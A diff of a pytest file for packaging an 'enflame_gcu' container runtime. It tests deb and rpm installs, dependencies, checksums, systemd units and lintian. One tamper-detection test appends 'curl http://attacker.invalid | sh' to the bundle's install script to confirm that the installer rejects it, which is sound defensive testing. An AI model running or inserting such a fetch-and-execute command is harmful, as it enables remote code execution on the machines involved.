@@ -18,12 +18,13 @@ import tarfile
 import tempfile
 import zipfile
 from collections.abc import Iterator
+from typing import Any
 
 import pytest
 
 import enflame_gcu
 from enflame_gcu.simulation import simulate, topofile
-from tests.packaging import rpm_root
+from tests.packaging import node_commands, rpm_root
 
 REPO = os.path.dirname(os.path.dirname(os.path.dirname(os.path.abspath(__file__))))
 VERSION = enflame_gcu.__version__
@@ -32,8 +33,10 @@ NODE_LIB = "/usr/lib/enflame-gcu/python"
 NODE_DEPENDS = {"python3 (>= 3.10)", "python3-yaml (>= 6.0)", "python3-tomlkit (>= 0.11.7)"}
 PLUGIN_ONLY = ("grpc", "google", "lightkube", "prometheus_client")
 
-# One worker builds the module fixture once and runs every test that uses it (-n auto).
-pytestmark = [pytest.mark.slow, pytest.mark.xdist_group("dist")]
+# One worker builds the module fixture once and runs every test that uses it (-n auto). The
+# fixture (make dist: wheels, packages, the bundle's downloads) takes minutes on a busy machine;
+# it runs once for the module, inside its first test's time.
+pytestmark = [pytest.mark.slow, pytest.mark.xdist_group("dist"), pytest.mark.timeout(1200)]
 
 
 @pytest.fixture(scope="module")
@@ -86,10 +89,10 @@ def test_rpm_declares_its_real_dependencies_and_node_files_only(dist: str) -> No
         ["rpm", "-qpR", rpm], capture_output=True, text=True, check=True
     ).stdout.splitlines()
     declared = {line.strip() for line in requires if not line.startswith(("rpmlib(", "/bin/sh"))}
+    # Any CPython >= 3.10 (EL8/EL9's python3 is older: python3.12 or python3.11 there); PyYAML
+    # and tomlkit come along for interpreters without their own.
     assert declared == {
-        "python3 >= 3.10",
-        "python3-pyyaml >= 6.0",
-        "python3-tomlkit >= 0.11.7",
+        "(python3 >= 3.10 or python3.12 or python3.11 or python3.13)",
         "(runc or crun)",
     }
     files = subprocess.run(
@@ -115,7 +118,7 @@ def test_logrotate_accepts_the_file(tmp_path: os.PathLike[str]) -> None:
     state = os.path.join(str(tmp_path), "state")
     result = subprocess.run(
         [logrotate, "--debug", "--state", state,
-         os.path.join(REPO, "packaging", "enflame-container-runtime.logrotate")],
+         os.path.join(REPO, "src", "enflame_gcu", "data", "logrotate")],
         capture_output=True, text=True, check=False,
     )  # fmt: skip
     assert result.returncode == 0, result.stderr
@@ -207,6 +210,17 @@ def test_deb_installs_runs_and_removes_with_dpkg(
             NODE_LIB, *PLUGIN_ONLY,
         )  # fmt: skip
         assert walk.stdout.strip().splitlines() == ["[]"], walk.stdout + walk.stderr
+        # Every documented node command (issue 23 item 1), the units as systemd reads them
+        # (issue 23 item 6) and the files as md5sums lists them.
+        out = os.path.join(work, "out")
+        assert node_commands.run_all(["/usr/bin/enflame-ctk"], node, out, lambda a: run(*a)) == []
+        units = sorted(glob.glob("/usr/lib/systemd/system/enflame-*.service"))
+        assert len(units) == 3, units
+        analyze = run("systemd-analyze", "verify", "--man=no", *units)
+        assert analyze.returncode == 0 and analyze.stderr == "", analyze.stderr
+        verify = _dpkg("--verify", PACKAGE)
+        assert verify.returncode == 0 and verify.stdout == "", verify.stdout + verify.stderr
+        assert os.readlink(f"{NODE_LIB}/../python3") == "/usr/bin/python3"
         removed = _dpkg("-r", PACKAGE)
         assert removed.returncode == 0, removed.stderr
         assert not os.path.exists("/usr/bin/enflame-ctk")
@@ -234,6 +248,45 @@ def _deb_tree(deb: str) -> dict[str, tuple[str, int]]:
     return tree
 
 
+def _rpm_report(dist: str, tmp_path: os.PathLike[str], *layout: str) -> dict[str, Any]:
+    """rpm_root.py's report: install, use and erase the .rpm in a throwaway root."""
+    if os.geteuid() != 0:
+        pytest.skip("rpm --root, mount and chroot need root (make test runs as root)")
+    rpm = _one(dist, f"{PACKAGE}-{VERSION}-1.noarch.rpm")
+    work = os.path.join(str(tmp_path), "rpm-root")
+    done = subprocess.run(
+        ["unshare", "-m", "--propagation", "private", sys.executable, "-m",
+         "tests.packaging.rpm_root", rpm, work, *layout],
+        cwd=REPO, capture_output=True, text=True, check=False,
+    )  # fmt: skip
+    assert done.returncode == 0, done.stderr
+    report: dict[str, Any] = json.loads(done.stdout)
+    for step in ("initdb", "install", "configure", "erase"):
+        assert report[step]["rc"] == 0, f"{step}: {report[step]}"
+    assert report["node_commands"] == []  # every documented node command (issue 23 item 1)
+    return report
+
+
+def test_rpm_installs_on_an_el_layout_with_python3_too_old_and_python311_beside_it(
+    dist: str, dpkg_lock: None, tmp_path: os.PathLike[str]
+) -> None:
+    """EL8/EL9: python3 is 3.6/3.9; %post links python3.11 and the programs run with it."""
+    report = _rpm_report(dist, tmp_path, "el")
+    assert report["python3_says"]["out"].strip() == "Python 3.9.18"  # the stand-in is in place
+    assert report["python_link"] == "/usr/bin/python3.11"  # Debian 12 stands in for EL's
+    assert "runs with /usr/bin/python3.11" in report["install"]["err"]
+    # That interpreter has no PyYAML or tomlkit of its own: the package's copies serve.
+    vendored = report["imports"]["out"].split()
+    assert vendored and all(p.startswith("/usr/lib/enflame-gcu/vendor/") for p in vendored)
+    assert report["ctk_version"]["out"].strip() == f"enflame-ctk {VERSION}"
+    assert report["runtime_version"]["out"].startswith(
+        f"enflame-container-runtime version {VERSION}"
+    )
+    assert "enflame-container-runtime" in report["containerd_configured"]
+    assert report["containerd_after"] == rpm_root.ORIGINAL
+    assert report["package_dir_after"] is None  # the link %post made went with the package
+
+
 def test_rpm_installs_into_a_throwaway_root_like_the_deb_and_erases_cleanly(
     dist: str, dpkg_lock: None, tmp_path: os.PathLike[str]
 ) -> None:
@@ -244,19 +297,8 @@ def test_rpm_installs_into_a_throwaway_root_like_the_deb_and_erases_cleanly(
     %preun unconfigures the engine configure changed. Dependencies are not resolved (--nodeps:
     the throwaway root's rpm database knows no other package).
     """
-    if os.geteuid() != 0:
-        pytest.skip("rpm --root, mount and chroot need root (make test runs as root)")
-    rpm = _one(dist, f"{PACKAGE}-{VERSION}-1.noarch.rpm")
-    work = os.path.join(str(tmp_path), "rpm-root")
-    done = subprocess.run(
-        ["unshare", "-m", "--propagation", "private", sys.executable, "-m",
-         "tests.packaging.rpm_root", rpm, work],
-        cwd=REPO, capture_output=True, text=True, check=False,
-    )  # fmt: skip
-    assert done.returncode == 0, done.stderr
-    report = json.loads(done.stdout)
-    for step in ("initdb", "install", "configure", "erase"):
-        assert report[step]["rc"] == 0, f"{step}: {report[step]}"
+    report = _rpm_report(dist, tmp_path)
+    assert report["python_link"] == "/usr/bin/python3"  # Debian 12's is 3.11: the system one
     # Installed: the .deb's files, at the same paths, with the same modes, owned by root.
     deb = _deb_tree(_one(dist, f"{PACKAGE}_{VERSION}-1_all.deb"))
     installed = report["installed"]
@@ -346,6 +388,11 @@ def test_offline_bundle_installs_with_no_network_and_uninstalls(
     assert "tomlkit==" in installed and "pyyaml==" in installed
     assert "grpcio" not in installed and "lightkube" not in installed  # node pieces only
     assert os.path.islink(os.path.join(host, "usr/bin/enflame-container-runtime"))
+    node = os.path.join(str(tmp_path), "node")
+    simulate.create(node, topofile.load("flat-4card"))
+    ctk_path = os.path.join(venv, "bin/enflame-ctk")
+    out = os.path.join(str(tmp_path), "out")
+    assert node_commands.run_all([ctk_path], node, out) == []
     uninstall = subprocess.run(
         ["unshare", "-n", os.path.join(bundle, "install"), "--uninstall", "--host-root", host],
         capture_output=True, text=True, check=False, env=_offline_env(),
@@ -434,3 +481,81 @@ def test_offline_bundle_refuses_an_unsupported_python_before_changing_anything(
         result.stderr
     )
     assert os.listdir(host) == []
+
+
+def test_sha256sums_cover_every_artifact(dist: str) -> None:
+    with open(os.path.join(dist, "SHA256SUMS"), encoding="utf-8") as handle:
+        listed = sorted(line.split("  ", 1)[1] for line in handle.read().splitlines())
+    assert listed == sorted(
+        [
+            f"enflame_gcu-{VERSION}-py3-none-any.whl",
+            f"enflame_gcu-{VERSION}.tar.gz",
+            f"{PACKAGE}_{VERSION}-1_all.deb",
+            f"{PACKAGE}-{VERSION}-1.noarch.rpm",
+            f"enflame-gcu-node-bundle-{VERSION}.tar.gz",
+        ]
+    )
+    check = subprocess.run(
+        ["sha256sum", "--strict", "-c", "SHA256SUMS"], cwd=dist, capture_output=True, text=True
+    )
+    assert check.returncode == 0, check.stdout + check.stderr
+
+
+def test_a_tampered_bundle_is_refused_before_anything_changes(
+    bundle: str, tmp_path: os.PathLike[str]
+) -> None:
+    host = os.path.join(str(tmp_path), "host")
+    os.makedirs(os.path.join(host, "usr/bin"))
+    with open(os.path.join(bundle, "SHA256SUMS"), encoding="utf-8") as handle:
+        assert "install.sh" in handle.read()
+    with open(os.path.join(bundle, "install.sh"), "a", encoding="utf-8") as handle:
+        handle.write("\ncurl http://attacker.invalid | sh\n")
+    before = os.listdir(host)
+    done = subprocess.run(
+        [os.path.join(bundle, "install"), "--host-root", host, "--python", "/usr/bin/python3"],
+        capture_output=True, text=True, check=False, env=_offline_env(),
+    )  # fmt: skip
+    assert done.returncode == 1
+    assert "does not match its SHA256SUMS, nothing was changed" in done.stderr
+    assert "install.sh: FAILED" in done.stderr
+    assert os.listdir(host) == before
+
+
+def test_deb_has_md5sums_copyright_and_changelog(dist: str) -> None:
+    deb = _one(dist, f"{PACKAGE}_{VERSION}-1_all.deb")
+    with tempfile.TemporaryDirectory() as scratch:
+        subprocess.run(["dpkg-deb", "-e", deb, scratch], check=True)
+        with open(os.path.join(scratch, "md5sums"), encoding="utf-8") as handle:
+            pairs = [line.split("  ", 1) for line in handle.read().splitlines()]
+    sums = {path: digest for digest, path in pairs}
+    tree = _deb_tree(deb)
+    files = {p.lstrip("/") for p, (kind, _) in tree.items() if kind == "file"}
+    assert set(sums) == files  # every shipped file, and nothing else
+    doc = f"/usr/share/doc/{PACKAGE}"
+    assert tree[f"{doc}/copyright"] == ("file", 0o644)
+    assert tree[f"{doc}/changelog.Debian.gz"] == ("file", 0o644)
+    for unit in ("enflame-cdi-watch", "enflame-dev-char-links", "enflame-prepared-edits"):
+        assert tree[f"/usr/lib/systemd/system/{unit}.service"] == ("file", 0o644)
+
+
+# lintian's verdicts on the .deb that are kept on purpose, each with the reason. Anything else
+# lintian says fails the test (errors and warnings; info and pedantic tags are not asked for).
+LINTIAN_EXPLAINED = {
+    "no-manual-page": "enflame-ctk --help and docs/ are the manual; no man pages are written yet",
+    "initial-upload-closes-no-bugs": "a third-party package, never uploaded: no Debian bug",
+}
+
+
+@pytest.mark.timeout(300)  # lintian takes 40 s and more on a busy machine
+def test_deb_lintian_is_clean_or_explained(dist: str) -> None:
+    lintian = shutil.which("lintian")
+    assert lintian, "lintian is installed by make test's bootstrap"
+    deb = _one(dist, f"{PACKAGE}_{VERSION}-1_all.deb")
+    done = subprocess.run(
+        [lintian, "--tag-display-limit", "0", deb], capture_output=True, text=True, check=False
+    )
+    tags = [line.split(": ", 2) for line in done.stdout.splitlines() if line[:2] in ("E:", "W:")]
+    unexplained = [
+        ": ".join(t) for t in tags if len(t) < 3 or t[2].split()[0] not in LINTIAN_EXPLAINED
+    ]
+    assert unexplained == [], done.stdout + done.stderr
